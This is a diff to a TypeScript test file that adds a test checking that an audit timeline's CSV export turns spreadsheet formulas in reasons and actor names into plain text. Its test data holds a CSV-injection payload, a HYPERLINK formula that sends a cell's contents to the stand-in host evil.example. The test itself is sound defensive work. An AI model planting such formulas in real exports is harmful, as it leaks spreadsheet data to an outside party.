@@ -130,6 +130,14 @@ describe('the audit timeline of a stream', () => {
     const entry = { ...foldAuditStream(history()).entries[2]!, reason: 'Spam, "lots"' };
     expect(auditCsvLine(entry)).toContain('"Spam, ""lots"""');
   });
+
+  it('when a reason or an actor’s name would be a spreadsheet formula, then its cell is text', () => {
+    const reason = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
+    const entry = { ...foldAuditStream(history()).entries[2]!, reason, actorName: '@Mallory' };
+    const cells = auditCsvLine(entry);
+    expect(cells).toContain(`'@Mallory,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
+    expect(cells).not.toMatch(/(^|,)"?[=@]/);
+  });
 });
 
 describe('the audit query', () => {
